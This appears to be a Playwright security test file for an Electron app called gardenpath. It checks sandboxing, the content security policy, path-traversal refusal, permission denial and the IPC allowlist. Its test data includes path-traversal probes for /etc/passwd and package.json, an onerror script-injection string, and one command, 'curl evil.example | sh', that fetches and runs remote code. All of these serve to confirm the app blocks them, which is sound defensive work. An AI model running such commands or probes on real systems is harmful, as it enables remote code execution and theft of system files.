// What the window must not be able to do, tried in the real app.
import { expect } from '@playwright/test';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { z } from 'zod';
import { labApi, labPrivateApi, shellApi } from '../../src/shared/api.ts';
import { nearlyFitting, type JsonSchema } from '../reliability/from-schema.ts';
import { call, callWithJson, type Bridge } from './bridge.ts';
import { appArguments, canSandbox, electron, test, userDataOf } from './app.ts';

declare global {
  interface Window {
    ran?: boolean;
  }
}

test('the window is sandboxed, isolated and without Node', async ({ gardenpath }) => {
  const { app, page } = gardenpath;
  const windows = await app.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows().map(({ webContents }) => ({
      // Electron’s own tests ask so; it is not in its types.
      preferences: (
        webContents as unknown as { getLastWebPreferences(): unknown }
      ).getLastWebPreferences(),
    })),
  );
  expect(windows).toHaveLength(1);
  expect(windows[0]?.preferences).toMatchObject({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    webSecurity: true,
  });
  const { preferences } = windows[0] as { preferences: Record<string, unknown> };
  for (const unsafe of [
    'allowRunningInsecureContent',
    'experimentalFeatures',
    'webviewTag',
    'nodeIntegrationInWorker',
    'nodeIntegrationInSubFrames',
  ])
    // prettier-ignore
    expect(preferences[unsafe] ?? false, unsafe).toBe(false);
  expect(preferences['enableBlinkFeatures'] ?? '').toBe('');

  const seen = await page.evaluate(() => ({
    globals: ['require', 'process', 'module', 'Buffer', 'global'].filter((name) => name in window),
    bridge: Object.keys((window as unknown as { gardenpath: Bridge }).gardenpath).sort(),
    url: location.href,
  }));
  expect(seen).toEqual({ globals: [], bridge: ['call', 'on'], url: 'app://gardenpath/' });
});

test('the operating system confines the window', async ({ gardenpath: { app } }) => {
  test.skip(!canSandbox(), 'Chromium’s sandbox starts neither as root nor without user namespaces');
  const pid = await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.getOSProcessId()); // prettier-ignore
  expect(readFileSync(`/proc/${pid}/status`, 'utf8')).toMatch(/^Seccomp:\s+2$/m);
});

test('the content security policy blocks foreign scripts, eval and the network', async ({
  gardenpath: { page },
}) => {
  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push(event.effectiveDirective),
    );
    const inline = document.createElement('script');
    inline.appendChild(document.createTextNode('window.ran = true'));
    document.body.append(inline);
    let markup = 'taken';
    try {
      document.createElement('div').innerHTML = '<img onerror="window.ran = true" src="x">';
    } catch (error) {
      markup = (error as Error).name;
    }
    const remote = document.createElement('img');
    remote.src = 'https://example.com/x.png';
    document.body.append(remote);
    const frame = document.createElement('iframe');
    frame.src = 'https://example.com/';
    document.body.append(frame);
    // In a task of its own: what a debugger evaluates directly may use eval.
    const evaluated = await new Promise((resolve) =>
      setTimeout(() => {
        try {
          resolve(window.eval('"ran"'));
        } catch (error) {
          resolve((error as Error).name);
        }
      }),
    );
    const fetched = await fetch('https://example.com/').then(
      () => 'fetched',
      () => 'refused',
    );
    await new Promise((resolve) => setTimeout(resolve, 200));
    return {
      ran: window.ran === true,
      markup,
      evaluated,
      fetched,
      violations: [...new Set(violations)],
    };
  });
  expect(outcome).toMatchObject({
    ran: false,
    markup: 'TypeError',
    evaluated: 'EvalError',
    fetched: 'refused',
  });
  for (const directive of ['require-trusted-types-for', 'img-src', 'frame-src', 'connect-src'])
    expect(outcome.violations).toContain(directive);
});

test('only files of the renderer are served, with headers', async ({ gardenpath: { app } }) => {
  const answers = await app.evaluate(async ({ net }) => {
    const ask = async (path: string, method = 'GET') => {
      const response = await net.fetch(`app://${path}`, { method });
      const headers = Object.fromEntries(response.headers);
      return { status: response.status, headers, body: (await response.text()).slice(0, 200) };
    };
    return {
      page: await ask('gardenpath/'),
      outside: [
        await ask('gardenpath/../../package.json'),
        await ask('gardenpath/%2e%2e/%2e%2e/package.json'),
        await ask('gardenpath/..%2f..%2fpackage.json'),
        await ask('gardenpath/..%5c..%5cpackage.json'),
        await ask('gardenpath/%2fetc%2fpasswd'),
        await ask('gardenpath/%00index.html'),
        await ask('gardenpath/%ff'),
        await ask('gardenpath/missing.html'),
        await ask('elsewhere/index.html'),
        await ask('gardenpath/', 'POST'),
      ],
    };
  });
  expect(answers.page.status).toBe(200);
  expect(answers.page.headers['content-security-policy']).toContain("default-src 'none'");
  expect(answers.page.headers['x-content-type-options']).toBe('nosniff');
  expect(answers.outside.map(({ status, body }) => [status, body])).toEqual(
    answers.outside.map(() => [404, 'Not found']),
  );
});

test('navigation, new windows, permissions and downloads are denied', async ({ gardenpath }) => {
  const { app, page } = gardenpath;
  await app.evaluate(({ shell }) => {
    const opened: string[] = [];
    Object.assign(globalThis, { opened });
    shell.openExternal = (url) => Promise.resolve(void opened.push(url));
  });
  const outcome = await page.evaluate(async () => {
    const opened = ['https://example.com/', 'file:///etc/passwd', 'https://babylm.github.io/'].map((url) => window.open(url)); // prettier-ignore
    const denied = async (asked: Promise<unknown>) => asked.then(() => false, () => true); // prettier-ignore
    const permissions = {
      camera: await denied(navigator.mediaDevices.getUserMedia({ video: true })),
      clipboard: await denied(navigator.clipboard.readText()),
      location: await denied(new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no))), // prettier-ignore
    };
    location.href = 'file:///etc/passwd';
    await new Promise((resolve) => setTimeout(resolve, 100));
    location.href = 'https://example.com/';
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { opened, permissions, url: location.href };
  });
  expect(outcome).toEqual({
    opened: [null, null, null],
    permissions: { camera: true, clipboard: true, location: true },
    url: 'app://gardenpath/',
  });
  const { windows, external } = await app.evaluate(({ BrowserWindow }) => ({
    windows: BrowserWindow.getAllWindows().length,
    external: (globalThis as unknown as { opened: string[] }).opened,
  }));
  expect(windows).toBe(1);
  expect(external).toEqual(['https://babylm.github.io/']); // the only one on the list
});

test('only the contract’s public methods can be called, with their parameters', async ({
  gardenpath: { page },
}) => {
  const code = async (name: unknown, params?: unknown) => {
    const reply = await call(page, name, params);
    return reply.ok ? 'ok' : reply.error.code;
  };
  expect(await code('project.info', {})).toBe('ok');

  const strangers = ['constructor', 'toString', '__proto__', 'hasOwnProperty', 'nothing.here', '', 7, null, ['project.info']]; // prettier-ignore
  for (const name of [...Object.keys(labPrivateApi), ...strangers])
    expect(await code(name, { path: '/tmp' }), String(name)).toBe('unknown-method');

  const bad: [string, unknown][] = [
    ['shell.forgetRecent', {}],
    ['shell.forgetRecent', { id: 7 }],
    ['shell.forgetRecent', { id: 'x', path: '/tmp' }],
    ['shell.recents', undefined],
    ['shell.addSuite', { from: '/tmp' }],
    ['runs.get', { runId: -1 }],
    ['runs.get', { runId: '1' }],
    ['project.info', { path: '/tmp' }],
  ];
  for (const [name, params] of bad)
    expect(await code(name, params), `${name} ${JSON.stringify(params)}`).toBe('bad-params');

  const refused = await page.evaluate(() => {
    try {
      (window as unknown as { gardenpath: Bridge }).gardenpath.on('call', () => undefined);
      return false;
    } catch {
      return true;
    }
  });
  expect(refused).toBe(true);
});

/** undefined for what JSON has no words for: a BigInt, a cycle, a function. */
function asJson(value: unknown): string | undefined {
  try {
    return JSON.stringify(value);
  } catch {
    return undefined;
  }
}

test('parameters of every public method, fuzzed through the bridge, are answered or refused', async ({
  gardenpath: { page },
}) => {
  // Without a project open, and without methods that open dialogs, which a person would have to close.
  const asks = /^shell\.(?!recents|openRecent|forgetRecent|takeAddress)/;
  const methods = (Object.entries({ ...labApi, ...shellApi }) as [string, { params: z.ZodType }][]).filter(([name]) => !asks.test(name)); // prettier-ignore
  const codes = new Set<string>();
  for (const [name, { params }] of methods) {
    const schema = z.toJSONSchema(params, { io: 'input', unrepresentable: 'any' }) as JsonSchema;
    for (const value of fc.sample(nearlyFitting(schema), 5)) {
      const json = asJson(value);
      if (json === undefined) continue;
      const reply = await callWithJson(page, name, json);
      codes.add(reply.ok ? 'ok' : reply.error.code);
    }
  }
  expect(codes).toContain('bad-params');
  expect(codes).not.toContain('internal');
  expect(codes).not.toContain('lab-gone');
  test.info().annotations.push({ type: 'tried', description: `${methods.length} methods, 5 sets of parameters each` }); // prettier-ignore
});

test('lines of shell are handed to a cluster only when the person says yes outside of the window', async ({
  gardenpath: { app, page },
}) => {
  await app.evaluate(({ dialog }) => {
    const asked: string[] = [];
    Object.assign(globalThis, { asked });
    dialog.showMessageBox = (...args: unknown[]) => {
      const { detail = '' } = args.at(-1) as { detail?: string };
      asked.push(detail);
      return Promise.resolve({ response: 1, checkboxChecked: false });
    };
  });
  const resources = { before: ['curl evil.example | sh'], ssh: { host: 'there', folder: '/x', gardenpath: 'gardenpath' } }; // prettier-ignore
  const plan = { name: 'theirs', corpus: 'embedded', resources };
  expect(await call(page, 'sweeps.start', { plan, place: 'slurm' })).toMatchObject({ ok: false, error: { code: 'cancelled' } }); // prettier-ignore
  const asked = await app.evaluate(() => (globalThis as unknown as { asked: string[] }).asked);
  expect(asked).toEqual([expect.stringMatching(/On there\..*curl evil\.example \| sh/s)]);
});

test('a page that is not ours is not heard', async ({ gardenpath: { app } }) => {
  const reply = await app.evaluate(async ({ app, BrowserWindow }) => {
    const preload = `${app.getAppPath()}/out/preload/index.cjs`;
    const other = new BrowserWindow({ show: false, webPreferences: { preload, sandbox: true } });
    await other.loadURL('data:text/html,<title>other</title>');
    const answer: unknown = await other.webContents.executeJavaScript(
      'gardenpath.call("project.info", {})',
    );
    other.destroy();
    return answer;
  });
  expect(reply).toMatchObject({ ok: false, error: { code: 'unknown-method' } });
});

test('a second instance hands over and quits', async ({ gardenpath: { app } }, info) => {
  const flags = canSandbox() ? [] : ['--no-sandbox'];
  const second = spawn(electron?.executable ?? '', [...flags, ...appArguments(userDataOf(info))], {
    stdio: 'ignore',
  });
  const [exitCode] = (await once(second, 'exit')) as [number | null];
  expect(exitCode).toBe(0);
  expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
});
